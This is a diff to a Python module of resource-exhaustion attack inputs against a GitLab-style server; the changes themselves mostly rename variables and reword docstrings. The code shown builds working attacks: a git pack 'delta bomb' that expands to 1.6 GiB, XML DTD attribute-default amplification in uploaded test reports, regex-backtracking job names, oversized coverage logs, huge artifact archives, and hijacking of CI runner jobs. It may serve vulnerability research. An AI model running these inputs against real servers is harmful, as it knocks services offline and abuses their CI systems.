@@ -94,10 +94,10 @@ async def running_job(target: AttackTarget, http: aiohttp.ClientSession, file: s
         token = (await answer.json())["token"]
     while True:
         async with http.post(f"{api}/jobs/request", json={"token": token}) as answer:
-            given = await answer.json() if answer.status == 201 else None
-        if given and given["git_info"]["ref"] == branch:
-            variables = {one["key"]: one["value"] for one in given["variables"]}
-            return Job(given["id"], given["token"], int(variables["CI_PIPELINE_ID"]), api)
+            taken = await answer.json() if answer.status == 201 else None
+        if taken and taken["git_info"]["ref"] == branch:
+            variables = {variable["key"]: variable["value"] for variable in taken["variables"]}
+            return Job(taken["id"], taken["token"], int(variables["CI_PIPELINE_ID"]), api)
 
 
 # --- packs as no git makes them (gitformat-pack(5)) ------------------------------------------------------------------
@@ -107,18 +107,19 @@ _COPIED = 0xFFFFFF  # the most that one instruction of a delta copies
 
 
 def pkt_line(line: bytes) -> bytes:
-    """A pkt-line."""
+    """Return a pkt-line."""
     return f"{len(line) + 4:04x}".encode() + line
 
 
 def push_body(ref: str, pack: bytes) -> bytes:
-    """The body of a push that creates `ref`; what it is to point at does not exist."""
+    """Return the body of a push that creates `ref`; what it is to point at does not exist."""
     command = f"{'0' * 40} {'1' * 40} {ref}".encode() + b"\0 report-status\n"
     return pkt_line(command) + b"0000" + pack
 
 
 def delta_bomb(copies: int = 100) -> bytes:
-    """A blob of 16 MiB in a few bytes, and a delta that copies it; a hundred copies are 1.6 GiB when unpacked."""
+    """Return a pack with a blob of 16 MiB in a few bytes, and a delta that copies it; a hundred copies are 1.6 GiB when
+    unpacked."""
     base = bytes(_COPIED)
     compressed = _deflated(base)
     instructions = b"\xf0\xff\xff\xff" * copies  # offset 0, three bytes of size
@@ -200,12 +201,12 @@ def _simple(largest: int, make: Callable[[AttackTarget, int], Request]) -> Input
 
 
 def _of_strangers(largest: int, path: str, value: Callable[[int], Any]) -> Input:
-    """JSON without a token."""
+    """Return an input of JSON that is sent without a token."""
     return _simple(largest, lambda target, number: _json(target, path, value(number)))
 
 
 def _of_mine(largest: int, path: str, value: Callable[[int], Any]) -> Input:
-    """JSON of an Owner to a path below her project."""
+    """Return an input of JSON that an Owner sends to a path below her project."""
     return _simple(
         largest, lambda target, n: _json(target, target.project(target.mine) + path, value(n), signed_in=True)
     )
@@ -268,7 +269,7 @@ def _lfs(target: AttackTarget, number: int) -> Request:
 
 
 async def _masked_log(target: AttackTarget, http: aiohttp.ClientSession, number: int) -> Request:
-    """Secrets that begin alike, and a log of their beginnings."""
+    """Make secrets that begin alike; return a log of their beginnings."""
     project = target.project(target.mine)
     for key, value in (("SHORT", "b" * 8), ("LONG", "a" * 9990 + "0" * 8)):
         body = {"key": key, "value": value, "masked": True}
@@ -279,14 +280,14 @@ async def _masked_log(target: AttackTarget, http: aiohttp.ClientSession, number:
 
 
 async def _coverage(target: AttackTarget, http: aiohttp.ClientSession, number: int) -> Request:
-    """A line of digits, in which the last match is looked for when the job ends."""
+    """Send a line of digits, whose last match is looked for when the job ends; return the request that ends it."""
     job = await running_job(target, http, "job:\n  coverage: '/\\d/'\n  script: ['true']\n")
     await job.log(b"1" * number).send(http)
     return attrs.evolve(job.finish(), worked_on=number)
 
 
 async def _test_report(target: AttackTarget, http: aiohttp.ClientSession, number: int) -> Request:
-    """A default value of an attribute that each test case would have."""
+    """Upload a report with a default value of an attribute that each test case would have."""
     job = await running_job(target, http, _REPORT.format("junit: report.xml"))
     document = f'<!DOCTYPE testsuites [<!ATTLIST testcase classname CDATA "{"a" * 100 * number}">]>'
     cases = '<testcase name="a"/>' * number
@@ -302,7 +303,7 @@ def _report_of(target: AttackTarget, job: Job, worked_on: int) -> Request:
 
 
 async def _names_of_jobs(target: AttackTarget, http: aiohttp.ClientSession, number: int) -> Request:
-    """A name that the expression for parts of a job (`name 1/2`) tries at each of its characters."""
+    """Make a job of a name that the expression for parts of a job (`name 1/2`) tries at each of its characters."""
     file = _REPORT.format("junit: report.xml").replace("job", f"'{'1 ' * (number // 2)}x'", 1)
     job = await running_job(target, http, file)
     await job.upload({"report.xml": "<testsuites/>"}, "junit").send(http)
@@ -311,7 +312,7 @@ async def _names_of_jobs(target: AttackTarget, http: aiohttp.ClientSession, numb
 
 
 async def _artifact_members(target: AttackTarget, http: aiohttp.ClientSession, number: int) -> Request:
-    """A look at one folder of an archive of very many files, by a stranger."""
+    """Upload an archive of very many files; return a stranger's look at one folder of it."""
     job = await running_job(target, http, ARTIFACTS_CONFIG)
     upload = job.upload({f"files/{index:06}.txt": "x" for index in range(number)})
     await upload.send(http)
